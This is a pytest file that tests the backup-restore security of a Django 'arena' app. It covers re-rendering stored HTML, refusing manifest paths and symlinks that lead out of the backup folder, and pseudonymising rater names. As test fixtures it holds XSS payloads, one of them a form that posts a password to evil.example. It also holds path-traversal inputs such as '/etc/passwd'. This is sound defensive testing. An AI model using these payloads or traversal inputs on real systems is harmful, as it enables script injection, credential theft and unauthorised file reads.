"""A restored backup is not trusted: stored HTML is rendered again from the text, a manifest
cannot make import_all read outside the backup folder, and a pseudonymised export hides the
rater names of imported verdicts as well as the accounts."""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from arena.markdown import rendered_turns, turns_key
from arena.models import Answer, ImportedVerdict, Prompt
from tests import factories
from tests.ops.test_backups import empty_database

pytestmark = pytest.mark.django_db(transaction=True)

PAYLOADS = (
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<form action="https://evil.example/steal"><input name="password"></form>',
)


@pytest.fixture
def backup(tmp_path) -> Path:
    prompt = factories.prompt(factories.prompt_set("custom"), external_id="q1", turns=("Hello?",))
    factories.comparison(prompt, "alpha", "beta")
    verdicts = tmp_path / "v.jsonl"
    verdicts.write_text(
        "".join(
            json.dumps({"model_a": "alpha", "model_b": "beta", "winner": "tie", "rater": who}) + "\n"
            for who in ("alice", "bob", "alice")
        )
    )
    call_command("import_battles", str(verdicts), "--format", "jsonl", "--source", "crowd", "--human")
    call_command("export_all", str(tmp_path / "backup"))
    return tmp_path / "backup"


def _rewrite(directory: Path, label: str, edit) -> None:  # type: ignore[no-untyped-def]
    """Change one table file and make the manifest's checksum match it, as an attacker would."""
    path = directory / f"{label}.jsonl"
    rows = [json.loads(line) for line in path.read_text().splitlines()]
    path.write_text("".join(json.dumps(edit(row)) + "\n" for row in rows))
    _set_manifest(directory, label, file=path.name, sha256=hashlib.sha256(path.read_bytes()).hexdigest())


def _set_manifest(directory: Path, label: str, **fields) -> None:  # type: ignore[no-untyped-def]
    manifest = json.loads((directory / "manifest.json").read_text())
    for table in manifest["tables"]:
        if table["model"] == label:
            table.update(fields)
    (directory / "manifest.json").write_text(json.dumps(manifest))


def test_stored_html_in_a_crafted_backup_is_rendered_again_from_the_text(backup):
    def poison(row):  # HTML with a valid key for its text: taken as it was before
        row["rendered"] = {"key": turns_key(row["turns"]), "html": ["".join(PAYLOADS)] * len(row["turns"])}
        return row

    _rewrite(backup, "arena.answer", poison)
    _rewrite(backup, "arena.prompt", poison)
    empty_database()
    call_command("import_all", str(backup))

    for item in [*Answer.objects.all(), *Prompt.objects.all()]:
        assert item.rendered == rendered_turns(item.turns)
        html = "".join(item.rendered["html"])
        assert "onerror" not in html and "javascript:" not in html and "<form" not in html


@pytest.mark.parametrize("name", ["../outside.jsonl", "/etc/passwd", "sub/../../outside.jsonl", "..", ""])
def test_a_manifest_path_leaving_the_backup_folder_is_refused(backup, name):
    outside = backup.parent / "outside.jsonl"
    outside.write_bytes((backup / "arena.answer.jsonl").read_bytes())
    _set_manifest(backup, "arena.answer", file=name, sha256=hashlib.sha256(outside.read_bytes()).hexdigest())
    empty_database()
    with pytest.raises(CommandError, match=r"backup folder.*nothing was restored"):
        call_command("import_all", str(backup))
    assert not Answer.objects.exists() and not Prompt.objects.exists()


def test_a_symlink_out_of_the_backup_folder_is_refused(backup):
    outside = backup.parent / "outside.jsonl"
    (backup / "arena.answer.jsonl").rename(outside)
    os.symlink(outside, backup / "arena.answer.jsonl")
    empty_database()
    with pytest.raises(CommandError, match=r"leads outside the backup folder.*nothing was restored"):
        call_command("import_all", str(backup))
    assert not Answer.objects.exists()


def test_a_malformed_manifest_is_a_clear_error(backup):
    (backup / "manifest.json").write_text(
        json.dumps({"format": "arena-backup", "version": 1, "tables": [{}]})
    )
    empty_database()
    with pytest.raises(CommandError, match=r"'tables' must list objects.*nothing was restored"):
        call_command("import_all", str(backup))


def test_pseudonymised_export_hides_imported_rater_names_consistently(backup, tmp_path):
    call_command("export_all", str(tmp_path / "pseudo"), "--pseudonymise")
    text = (tmp_path / "pseudo" / "arena.importedverdict.jsonl").read_text()
    assert "alice" not in text and "bob" not in text
    raters = [json.loads(line)["rater"] for line in text.splitlines()]
    assert raters[0] == raters[2] != raters[1] and all(r.startswith("rater-") for r in raters)
    empty_database()
    call_command("import_all", str(tmp_path / "pseudo"))
    assert ImportedVerdict.objects.filter(rater=raters[0]).count() == 2
